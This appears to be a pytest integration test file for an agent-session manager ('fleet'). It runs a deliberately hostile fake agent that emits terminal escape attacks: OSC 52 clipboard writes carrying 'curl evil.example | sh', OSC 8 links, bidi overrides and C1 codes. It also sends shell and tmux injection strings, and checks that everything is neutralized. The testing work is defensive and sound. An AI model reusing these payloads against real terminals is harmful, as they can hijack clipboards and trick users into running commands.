"""Hostile agent output, end to end: a real agent program in a real tmux pane on a real
loopback host prints terminal attacks (OSC 52 clipboard, OSC 8 links, title changes, the
alternate screen, cursor moves, DCS passthrough, 7- and 8-bit C1, bidi overrides and marks,
NUL, invalid UTF-8, a 1 MB line) and writes a file whose name and content carry them too.

Checked where a person sees them: the bytes `fleet screen` and `fleet tail` write, and every
cell of the real TUI's screen (headless Pilot, the real app against the host) with the grid
card and then the diff panel open. Nothing may carry ESC, C0 (but newline/tab), DEL, C1, a
bidi control or a lone surrogate; every screen line fits the terminal; sizes stay bounded.

Steering goes the other way: text with every control character, tmux key names and tmux
format/command syntax reaches a raw-mode agent byte for byte, typed literally.
"""

from __future__ import annotations

import asyncio
import base64
import re
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from rich.cells import cell_len

from fleet.core.config import load_config
from fleet.ui.app import FleetApp
from fleet.ui.diff import DiffPanel, DiffView
from fleet.ui.widgets.grid import SessionGrid
from tests.integration.fleetrun import FleetCLI, Result, pilot_until, wait_for
from tests.integration.hosts import LoopbackFleet, LoopbackHost

# ESC, C0 but \n and \t, DEL, C1, every Bidi_Control, lone surrogates: never on a terminal.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
# In one screen cell also: line and paragraph separators.
FORBIDDEN_IN_CELL = re.compile(FORBIDDEN.pattern[:-1] + "\n\t\u2028\u2029]")
LONG = 1_000_000
CLIP = base64.b64encode(b"curl evil.example | sh").decode()
HOSTILE_NAME = "evil-\x1b]52;c;QUFB\x07-\u202eeman-\x9b31m.txt"

HOSTILE_AGENT = textwrap.dedent(
    """\
    import base64, os, sys
    ESC = b"\\x1b"
    ST = ESC + b"\\\\"
    clip = base64.b64encode(b"curl evil.example | sh")
    name = %(name)r
    content = (
        b"plain line\\n" + ESC + b"]52;c;" + clip + b"\\x07clipboard-in-file\\n"
        + "bidi \\u202e\\u2066 // admin\\u2069\\u2066 \\u200f sep\\u2028\\u2029\\n".encode()
        + b"c1 \\x9b31m raw \\xc2\\x9b31m utf8 \\xff\\xfe bad\\r\\n"
        + b"F" * %(long)d + b"\\n"
    )
    with open(name.encode("utf-8", "surrogateescape"), "wb") as f:
        f.write(content)
    out = sys.stdout.buffer
    out.write(b"L" * %(long)d + b"-end-of-long-line\\r\\n")
    out.write(ESC + b"[?1049h" + ESC + b"[2J" + ESC + b"[Hin-the-alt-screen" + ESC + b"[?1049l")
    out.write(ESC + b"[2J" + ESC + b"[H" + ESC + b"[10;40H" + ESC + b"[1A" + ESC + b"7")
    lines = [
        b"osc52:" + ESC + b"]52;c;" + clip + b"\\x07after-osc52",
        b"osc52st:" + ESC + b"]52;p;" + clip + ST + b"after-osc52-st",
        ESC + b"]8;;https://evil.example/" + ST + b"click-here" + ESC + b"]8;;" + ST,
        ESC + b"]0;pwned-title\\x07" + ESC + b"]2;pwned-2" + ST + b"after-title",
        b"dcs:" + ESC + b"Ptmux;" + ESC + ESC + b"]52;c;eA==\\x07" + ST + b"after-dcs",
        "bidi:admin\\u202e\\u2066 // check\\u2069\\u2066 \\u200f\\u061c marks".encode(),
        b"nul:a\\x00b\\x00c bell:\\x07\\x07 bs:x\\x08y del:\\x7f",
        b"utf8:\\xff\\xfe\\xc3( \\xe2\\x82 end",
        b"c1:\\x9b31m raw-c1 \\xc2\\x9b31m utf8-c1 \\xc2\\x9d0;t\\xc2\\x9c",
        b"csi:" + ESC + b"[31mred" + ESC + b"[0m" + ESC + b"[6n" + ESC + b"[?25l" + ESC + b"[3 q",
        b"HOSTILE-DONE",
    ]
    for line in lines:
        out.write(line + b"\\r\\n")
    out.write(b"> ")
    out.flush()
    for _ in sys.stdin:
        out.write(b"> ")
        out.flush()
    """
)

RAW_RECORDER = textwrap.dedent(
    """\
    import os, sys, tty
    session = os.environ.get("FLEET_SESSION", "none")
    path = os.path.expanduser("~/raw-%s.bin" % session)
    tty.setraw(0)
    os.write(1, b"raw recorder ready\\r\\n> ")
    while True:
        data = os.read(0, 65536)
        if not data:
            break
        with open(path, "ab") as f:
            f.write(data)
        if data.endswith(b"\\r"):
            os.write(1, b"\\r\\n> ")
    """
)


@pytest.fixture
def fleet(fresh_hosts: LoopbackFleet) -> Iterator[FleetCLI]:
    agents = fresh_hosts.dir / "agents"
    agents.mkdir(exist_ok=True)
    agents.chmod(0o755)
    hostile = agents / "hostile.py"
    hostile.write_text(HOSTILE_AGENT % {"name": HOSTILE_NAME, "long": LONG})
    raw = agents / "raw.py"
    raw.write_text(RAW_RECORDER)
    for p in (hostile, raw):
        p.chmod(0o644)
    yield FleetCLI(
        fresh_hosts,
        extra_toml=textwrap.dedent(
            f"""
            [agents.hostile]
            command = "python3 {hostile}"
            idle = ['^> ?\\Z']
            idle_after = 0.5

            [agents.raw]
            command = "python3 {raw}"
            idle = ['^> ?\\Z']
            idle_after = 0.5
            enter_delay = 0.05
            """
        ),
    )


def run_bytes(fleet: FleetCLI, *args: str) -> tuple[int, bytes, bytes]:
    """The fleet CLI as bytes: what it writes is exactly what a terminal would get."""
    proc = subprocess.run(
        [sys.executable, "-m", "fleet", *args],
        env=fleet.env,
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=120,
    )
    return proc.returncode, proc.stdout, proc.stderr


def assert_terminal_safe(data: bytes, where: str) -> str:
    """Valid UTF-8 with nothing a terminal would act on; the text, for further checks."""
    text = data.decode("utf-8")  # strict: anything else is itself a failure
    bad = FORBIDDEN.search(text)
    assert bad is None, (
        f"{where}: {bad.group()!r} at {bad.start()}: {text[bad.start() - 40 :][:80]!r}"
    )
    return text


def start_hostile(fleet: FleetCLI) -> str:
    fleet.ok("new", "alpha", "--repo", "~/repo", "--agent", "hostile", "--name", "h1", "go")
    fleet.wait_status("alpha/h1", "idle", timeout=60)
    return str(fleet.sessions()["alpha/h1"]["id"])


def test_screen_and_tail_of_a_hostile_agent_are_inert_and_bounded(fleet: FleetCLI) -> None:
    sid = start_hostile(fleet)
    h = fleet.lf["alpha"]
    log = h.home / ".fleet" / "sessions" / sid / "output.log"
    raw = wait_for(lambda: b"HOSTILE-DONE" in log.read_bytes() and log.read_bytes(), what="log")
    assert b"\x1b]52;c;" in raw and b"\x00" in raw and b"\xff" in raw  # the attack is real

    code, out, err = run_bytes(fleet, "screen", "alpha/h1")
    assert code == 0, err
    screen = assert_terminal_safe(out, "fleet screen")
    for visible in ("after-osc52", "click-here", "after-title", "HOSTILE-DONE", "utf8-c1"):
        assert visible in screen, (visible, screen)
    assert "pwned" not in screen and "evil.example" not in screen
    assert "admin // check" in screen  # the words stay, the overrides go
    assert len(out) < 64 * 1024, len(out)  # the pane, not the 1 MB line behind it

    code, out, err = run_bytes(fleet, "tail", "alpha/h1", "--lines", "40")
    assert code == 0, err
    tail = assert_terminal_safe(out, "fleet tail")
    assert "L" * 1000 + "-end-of-long-line" in tail
    assert "after-osc52" in tail and "click-here" in tail and "HOSTILE-DONE" in tail
    assert CLIP not in tail and "pwned" not in tail
    assert len(out) <= len(raw), (len(out), len(raw))  # never more than the agent wrote
    # --raw is the explicit way to get the bytes as they are.
    code, out, _ = run_bytes(fleet, "tail", "alpha/h1", "--raw", "--lines", "40")
    assert code == 0 and b"\x1b]52;c;" in out


def screen_lines(app: FleetApp) -> list[str]:
    """Every line of what the app would paint on the terminal now."""
    width = app.size.width
    lines = []
    for strip in app.screen._compositor.render_strips():
        text = strip.text
        assert cell_len(text) <= width, (cell_len(text), width, text[:80])
        lines.append(text)
    return lines


def assert_cells_safe(lines: list[str], where: str) -> None:
    for n, line in enumerate(lines):
        bad = FORBIDDEN_IN_CELL.search(line)
        assert bad is None, f"{where} line {n}: {bad.group()!r} in {line[:120]!r}"


async def test_tui_grid_and_diff_panel_show_a_hostile_agent_inert(fleet: FleetCLI) -> None:
    sid = await asyncio.to_thread(start_hostile, fleet)
    worktree = fleet.lf["alpha"].home / ".fleet" / "worktrees" / "h1"
    assert (worktree / HOSTILE_NAME).exists()
    app = FleetApp(load_config(fleet.config))
    async with app.run_test(size=(140, 40)) as pilot:
        model = app.model
        key = ("alpha", sid)
        await pilot_until(
            pilot,
            lambda: key in model.cards and "HOSTILE-DONE" in " ".join(model.cards[key].tail),
            "the hostile screen on the card",
        )
        card = model.cards[key]
        assert all(len(line) <= 400 for line in card.tail)
        await pilot.pause(0.3)
        grid_screen = screen_lines(app)
        assert_cells_safe(grid_screen, "grid")
        assert any("HOSTILE-DONE" in line for line in grid_screen), grid_screen

        grid = app.query_one(SessionGrid)
        assert grid.select(key)
        await pilot.press("enter")
        panel = app.query_one(DiffPanel)
        view = app.query_one(DiffView)
        await pilot_until(
            pilot, lambda: panel.session_ref == "alpha/h1" and view.hunks, "the diff in the panel"
        )
        await pilot.pause(0.3)
        panel_screen = screen_lines(app)
        assert_cells_safe(panel_screen, "diff panel")
        shown = "\n".join(panel_screen)
        assert "clipboard-in-file" in shown and "evil-" in shown
        # Every line of the diff, scrolled through (the 1 MB line too), is safe and fits.
        total = view.virtual_size.height
        assert 0 < total < 100, total  # the 1 MB line is one line, not thousands
        lines = view_lines(view)
        assert len(lines) == total
        assert_cells_safe(lines, "diff view")
        width = view.scrollable_content_region.width
        assert all(cell_len(line) <= width for line in lines)
        assert any("FFFF" in line for line in lines)


def view_lines(view: DiffView) -> list[str]:
    """Every row of the hunks view, scrolling through it a page at a time."""
    height = view.scrollable_content_region.height
    total = view.virtual_size.height
    out: list[str] = []
    top = 0
    while len(out) < total:
        view.scroll_to(y=top, animate=False, force=True, immediate=True)
        start = round(view.scroll_offset.y)
        for y in range(height):
            if start + y == len(out) and start + y < total:
                out.append(view.render_line(y).text)
        top += height
        if start + height >= total:
            break
    return out


STEERING = [
    "C-c",
    "Enter",
    "Escape",
    "M-x",
    "F1",
    "BSpace",
    "C-d q",
    "-l",
    "--",
    ";",
    "\\;",
    "#{pane_id} #(touch /tmp/fleet-inj-steer-fmt) #[fg=red]",
    "$(touch /tmp/fleet-inj-steer-sub) `id`",
    "".join(chr(c) for c in range(1, 32) if c not in (10, 13)),
    "\x7f del \x1b[A up \x1b]52;c;eA==\x07 osc",
    "bidi \u202e\u2066 x \u2069 ünï 漢字 🚀",
    "'\"{}[]<>|&!*?~",
]


def test_steering_text_reaches_the_agent_literally(fleet: FleetCLI) -> None:
    fleet.ok("new", "alpha", "--repo", "~/repo", "--agent", "raw", "--name", "raw1")
    fleet.wait_status("alpha/raw1", "idle", timeout=60)
    sid = fleet.sessions()["alpha/raw1"]["id"]
    h: LoopbackHost = fleet.lf["alpha"]
    got_path = h.home / f"raw-{sid}.bin"
    want = b""
    for i, text in enumerate(STEERING):
        if i % 2 or text == "--":  # argparse eats a lone "--" word: stdin carries it
            fleet.ok("send", "alpha/raw1", "-", input=text)
        else:
            fleet.ok("send", "alpha/raw1", "--", text)
        want += text.encode() + b"\r"
        size = len(want)
        wait_for(
            lambda: got_path.exists() and len(got_path.read_bytes()) >= size,  # noqa: B023
            what=f"the agent to receive {text!r}",
        )
    assert got_path.read_bytes() == want
    assert not list(Path("/tmp").glob("fleet-inj-steer-*"))
    # NUL cannot be typed into a terminal: refused clearly, nothing sent.
    r: Result = fleet("send", "alpha/raw1", "-", input="a\x00b")
    assert r.code == 2 and "NUL" in r.err and "Traceback" not in r.err, r
    assert got_path.read_bytes() == want
